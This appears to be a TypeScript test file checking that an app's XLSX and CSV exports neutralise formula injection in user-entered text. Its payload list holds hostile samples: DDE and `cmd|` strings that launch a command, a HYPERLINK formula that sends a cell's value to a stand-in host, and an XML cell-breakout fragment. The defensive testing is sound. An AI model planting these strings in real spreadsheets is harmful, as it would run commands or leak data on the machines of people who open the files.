import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, describe, expect, it } from 'vitest';

import { workbookIn } from '#backend/importWorkbook.ts';
import type { Document } from '#models/document.ts';
import { allAtOnce } from '#models/piecewise.ts';
import { planningBook } from '#models/workbook/planBook.ts';
import { sheetKeys } from '#models/workbook/sheetKeys.ts';
import { tableOfSheet, writingBook } from '#models/workbook/writeBook.ts';
import { csvCells } from '#shared/documents/csvCells.ts';
import { csvText, harmless, unharmed } from '#shared/documents/csvWrite.ts';
import { xlsxSheets } from '#shared/documents/xlsxSheets.ts';
import { writingXlsx } from '#shared/documents/xlsxWrite.ts';

import { calc, convert } from '../documents/calc.ts';
import { randomWorkspace } from '../interchange/randomWorkspace.ts';
import { Bench } from '../models/smallTheory.ts';
import { bookIn } from './bookUnderTest.ts';

const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'wherefore-book-'));
afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));

/** Beginnings that programs take for a formula or a command, and what is said to help against them. */
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  "''+",
  ' =',
  '"=',
  ';=',
  '|',
];
const payloads = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.org?x="&A1,"click")',
  'IMPORTXML("http://example.org","//a")',
  'WEBSERVICE("http://example.org")',
  'DDE("cmd";"/C calc";"x")',
  '1+1',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '_x003D_1+1',
];

/** A theory with hostile words in every text field that people fill in. */
function hostileTheory(count: number): { readonly document: Document; readonly theoryId: string } {
  const bench = new Bench();
  const theoryId = bench.theory('=1+1');
  const words = beginnings.flatMap((begin) => payloads.map((payload) => `${begin}${payload}`));
  for (let at = 0; at < count; at += 1) {
    const word = words[at % words.length] ?? '';
    bench.element(theoryId, `.${word}`, { note: word, plainLabel: word, indicator: word, originNote: word });
  }
  const [one = '', other = ''] = [...bench.document.elements.keys()];
  const arrow = bench.arrow(one, other, { becauseText: '=2+2', ifText: '@x', hedge: '+1' });
  bench.evidence(arrow, '=HYPERLINK("x")');
  return { document: bench.document, theoryId };
}

function xlsxOf(document: Document, theoryId: string): Uint8Array {
  return allAtOnce(writingXlsx(allAtOnce(writingBook(bookIn(document, theoryId)))));
}

/** What a file that came back would change. */
function changesOf(document: Document, bytes: Uint8Array, name: string) {
  const found = workbookIn(bytes, name);
  if (found === null) throw new Error('This is no workbook of ours.');
  const { changes, problems } = allAtOnce(
    planningBook(bookIn(document, found.theoryId, found.vocabulary), found),
  );
  return { changes: changes.map(({ column, before, after }) => [column, before, after]), problems };
}

const nothing = { changes: [], problems: [] };

describe('text can never become a formula', () => {
  it('B9: no part of any workbook of ours holds a formula, whatever the words are', () => {
    const all = [
      hostileTheory(128),
      ...[1, 2, 3, 4, 5, 6, 7, 8, 9].flatMap((seed) => {
        const document = randomWorkspace(seed, 120);
        return [...document.theories.keys()].slice(0, 1).map((theoryId) => ({ document, theoryId }));
      }),
    ];
    expect(all.length).toBeGreaterThan(5);
    for (const { document, theoryId } of all) {
      const bytes = xlsxOf(document, theoryId);
      const parts = unzipSync(bytes);
      expect(Object.keys(parts).filter((name) => !/^(?:\[Content_Types\]|_rels\/|xl\/)/u.test(name))).toEqual(
        [],
      );
      for (const [name, part] of Object.entries(parts)) {
        const xml = strFromU8(part);
        expect([
          name,
          /<f[\s>]/u.test(xml),
          /externalLink|<hyperlink|<oleObject|TargetMode/u.test(xml),
        ]).toEqual([name, false, false]);
      }
      const sheets = xlsxSheets(bytes);
      if (!sheets.ok) throw new Error(sheets.error.message);
      for (const sheet of sheets.value)
        expect(
          sheet.rows.flat().filter((cell) => cell?.isFormula === true || cell?.kind === 'error'),
        ).toEqual([]);
      expect(changesOf(document, bytes, 'book.xlsx')).toEqual(nothing);
    }
  });

  it('B9: in CSV no field begins like a formula, and taking the apostrophe away gives every text back', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc
        .tuple(fc.constantFrom(...beginnings, "'", '\r'), fc.string())
        .map(([begin, rest]) => `${begin}${rest}`),
    );
    fc.assert(
      fc.property(text, (written) => {
        const safe = harmless(written);
        expect(/^[=+\-@\t\r\n\0＝＋－＠]/u.test(safe)).toBe(false);
        expect(unharmed(safe)).toBe(written);
      }),
      { numRuns: 3_000 },
    );
    const { document, theoryId } = hostileTheory(128);
    for (const key of sheetKeys) {
      const csv = csvText(tableOfSheet(bookIn(document, theoryId), key));
      expect(csv.startsWith('\uFEFF')).toBe(true);
      for (const field of csvCells(csv).flat())
        expect(/^[=+@\t\r＝＋－＠]|^-(?!\d+(?:\.\d+)?$)/u.test(field)).toBe(false);
      expect(changesOf(document, Buffer.from(csv), `${key}.csv`)).toEqual(nothing);
    }
  });

  it.skipIf(calc === null)(
    'B9: LibreOffice finds no formula in it, and what it saves comes back unchanged',
    () => {
      const { document, theoryId } = hostileTheory(128);
      const file = path.join(folder, 'hostile.xlsx');
      fs.writeFileSync(file, xlsxOf(document, theoryId));
      const flat = fs.readFileSync(convert(file, 'fods', folder), 'utf8');
      expect(flat).toContain('cmd|');
      expect(/table:formula=/u.test(flat)).toBe(false);
      const saved = fs.readFileSync(convert(file, 'xlsx', folder));
      expect(changesOf(document, saved, 'hostile.xlsx')).toEqual(nothing);
      // A CSV file that is opened and saved again, formulas and all.
      const csv = path.join(folder, 'elements.csv');
      fs.writeFileSync(csv, csvText(tableOfSheet(bookIn(document, theoryId), 'elements')));
      expect(/table:formula=/u.test(fs.readFileSync(convert(csv, 'fods', folder), 'utf8'))).toBe(false);
    },
  );

  it('B1: the same theory gives the same bytes', () => {
    const { document, theoryId } = hostileTheory(20);
    expect(Buffer.compare(xlsxOf(document, theoryId), xlsxOf(document, theoryId))).toBe(0);
  });
});
